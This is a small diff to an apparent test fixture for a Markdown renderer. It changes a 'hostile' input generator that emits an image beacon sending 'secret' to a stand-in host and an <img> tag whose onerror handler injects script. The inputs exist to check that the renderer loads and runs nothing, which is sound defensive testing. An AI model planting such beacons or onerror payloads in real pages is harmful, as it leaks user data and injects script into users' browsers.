@@ -114,8 +114,7 @@ function endless(size, what) {
 }
 
 /** What nobody means well: it must load nothing, lead nowhere, run nothing, hide nothing, and not stop the page. */
-export function hostile() {
-  const elsewhere = "https://elsewhere.invalid";
+export function hostile(elsewhere = "https://elsewhere.invalid") {
   return [
     "# Hostile\n",
     `![beacon](${elsewhere}/p.png?q=secret) ![a][ref] <img src="${elsewhere}/i.png" onerror="globalThis.hacked=1">\n`,
